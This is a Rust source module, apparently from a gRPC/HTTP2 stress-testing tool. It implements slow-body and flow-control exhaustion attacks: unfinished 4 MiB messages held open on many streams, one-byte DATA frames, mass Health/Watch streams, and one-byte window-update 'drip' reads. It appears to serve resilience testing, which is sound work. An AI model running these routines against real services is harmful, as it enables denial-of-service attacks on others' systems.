//! Attacks within the flow-control windows: messages that are never finished, messages in frames of one byte, thousands
//! of watches, and replies that are read one byte at a time. Must not depend on the effect on others.

use std::time::Duration;

use tokio::time::{Instant, sleep};

use super::kind::Kind;
use super::wire::{
    DATA, END_HEADERS, END_STREAM, End, HEADERS, Line, PADDED, RST_STREAM, WINDOW_UPDATE, frame, head,
    message,
};

const HEALTH: &str = "/grpc.health.v1.Health/Check";
const HEALTH_WATCH: &str = "/grpc.health.v1.Health/Watch";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const CREATE: &str = "/orders.v1.OrderService/CreateOrder";
/// An rpc that does not exist.
const NOTHING: &str = "/orders.v1.OrderService/Nothing";
/// The largest message that tonic accepts.
const LARGE: usize = 4 << 20;
const FRAME: usize = 16 << 10;
/// Bytes per write, in frames of one byte.
const BATCH: usize = 500;
/// Bytes sent on one stream before the next has its turn, so that all messages grow together.
const TURN: usize = 8 * FRAME;
/// Interval of checks whether there is room in the window.
const LOOK: Duration = Duration::from_millis(50);
/// Watches started per second over all connections, so that their rate has no effect of its own.
const WATCHES: f64 = 3_000.0;
/// The connection's window, which is opened before the first byte of a stream's window.
const OUT: u32 = 1 << 30;
/// Pages that are read one byte at a time, per connection.
const DRIPS: u32 = 100;

/// Messages that are sent in parts.
#[derive(Clone)]
pub(super) struct Bodies {
    block: Vec<u8>,
    /// The length that a message declares. Its last byte is never sent.
    size: usize,
    /// Concurrent streams per connection.
    streams: usize,
    /// Bytes of a message per frame, and of padding if it is padded.
    part: usize,
    padding: Option<u8>,
    /// Whether a stream stays open when no more can be sent on it.
    stays: bool,
}

/// A message being sent.
struct Body {
    stream: u32,
    left: usize,
}

impl Bodies {
    pub(super) fn of(kind: Kind, most: usize) -> Option<Bodies> {
        let unfinished = |path, size, streams| {
            let block = head(path, &[]);
            Bodies { block, size, streams, part: FRAME, padding: None, stays: true }
        };
        let bytes = |path, padding| {
            let block = head(path, &[]);
            Bodies { block, size: most, streams: 1, part: 1, padding, stays: false }
        };
        Some(match kind {
            Kind::HealthUnfinished => unfinished(HEALTH, LARGE, 600),
            Kind::ReflectionUnfinished => unfinished(REFLECTION, LARGE, 600),
            Kind::HalfSent => unfinished(CREATE, most, 512),
            Kind::OneByteData => bytes(CREATE, None),
            Kind::OneBytePadded => bytes(CREATE, Some(0)),
            Kind::OneByteRefused => bytes(NOTHING, None),
            _ => return None,
        })
    }

    pub(super) async fn send(&self, line: &mut Line, end: Instant, sent: &mut u64) -> Result<(), End> {
        let (mut bodies, mut next) = (Vec::<Body>::new(), 1);
        while Instant::now() < end {
            line.settle(end).await?;
            bodies.retain(|body| line.room.has(body.stream));
            let mut bytes = Vec::new();
            while bodies.len() < self.streams.min(line.room.most) {
                line.room.open(next);
                bytes.extend(frame(HEADERS, END_HEADERS, next, &self.block));
                bodies.push(Body { stream: next, left: self.size + 5 });
                next += 2;
            }
            for body in &mut bodies {
                self.more(line, body, &mut bytes, sent);
            }
            if bytes.is_empty() {
                line.hear(end.min(Instant::now() + LOOK)).await?;
            } else {
                line.send(&bytes, end, true).await?;
            }
        }
        Ok(())
    }

    /// Appends as much of a message as there is room for in this turn.
    fn more(&self, line: &mut Line, body: &mut Body, bytes: &mut Vec<u8>, sent: &mut u64) {
        // Padding and its length field count towards the window.
        let around = self.padding.map_or(0, |padding| usize::from(padding) + 1);
        let turn = if self.part == 1 { BATCH } else { TURN };
        let mut taken = 0;
        while body.left > 1 && taken < turn && line.room.of(body.stream) > around {
            let room = line.room.of(body.stream) - around;
            let length = self.part.min(body.left - 1).min(room);
            let mut part = vec![0; length];
            let said = self.size + 5 - body.left;
            let prefix = message(false, self.size, &[]);
            part.iter_mut().zip(prefix.iter().skip(said)).for_each(|(byte, prefix)| *byte = *prefix);
            match self.padding {
                Some(padding) => {
                    let padded = [&[padding], &part[..], &vec![0; usize::from(padding)]].concat();
                    bytes.extend(frame(DATA, PADDED, body.stream, &padded));
                }
                None => bytes.extend(frame(DATA, 0, body.stream, &part)),
            }
            line.room.spend(body.stream, length + around);
            (body.left, taken) = (body.left - length, taken + length);
            *sent += if self.part == 1 { 1 } else { length as u64 };
        }
        if body.left == 1 && !self.stays {
            bytes.extend(frame(RST_STREAM, 0, body.stream, &[0, 0, 0, 8]));
            line.room.close(body.stream);
        }
    }
}

/// Health watches, as many as a connection permits. Refused ones are not tried again.
pub(super) async fn watches(
    line: &mut Line,
    connections: usize,
    end: Instant,
    sent: &mut u64,
) -> Result<(), End> {
    line.hear(end).await?;
    let pause = Duration::from_secs_f64(connections as f64 / WATCHES);
    let (block, empty) = (head(HEALTH_WATCH, &[]), message(false, 0, &[]));
    let most = u32::try_from(line.room.most.min(1_024)).unwrap_or(1_024);
    for number in 0..most {
        let stream = 2 * number + 1;
        if Instant::now() >= end {
            return Ok(());
        }
        let begin = frame(HEADERS, END_HEADERS, stream, &block);
        line.settle(end).await?;
        if !line.send(&[begin, frame(DATA, END_STREAM, stream, &empty)].concat(), end, true).await? {
            return Ok(());
        }
        *sent += 1;
        sleep(pause).await;
    }
    while Instant::now() < end {
        line.hear(end.min(Instant::now() + LOOK)).await?;
        line.settle(end).await?;
    }
    Ok(())
}

/// Calls with a large reply that is read one byte at a time. The initial window is 0.
pub(super) async fn drip(
    line: &mut Line,
    call: impl Fn(u32) -> Vec<u8>,
    end: Instant,
    sent: &mut u64,
) -> Result<(), End> {
    line.send(&frame(WINDOW_UPDATE, 0, 0, &OUT.to_be_bytes()), end, true).await?;
    let mut next = 1;
    let mut streams = Vec::new();
    while Instant::now() < end {
        line.settle(end).await?;
        streams.retain(|stream| line.room.has(*stream));
        let mut bytes = Vec::new();
        while streams.len() < DRIPS as usize {
            line.room.open(next);
            bytes.extend(call(next));
            streams.push(next);
            next += 2;
        }
        for stream in &streams {
            bytes.extend(frame(WINDOW_UPDATE, 0, *stream, &1_u32.to_be_bytes()));
        }
        if line.send(&bytes, end, true).await? {
            *sent += streams.len() as u64;
        }
    }
    Ok(())
}
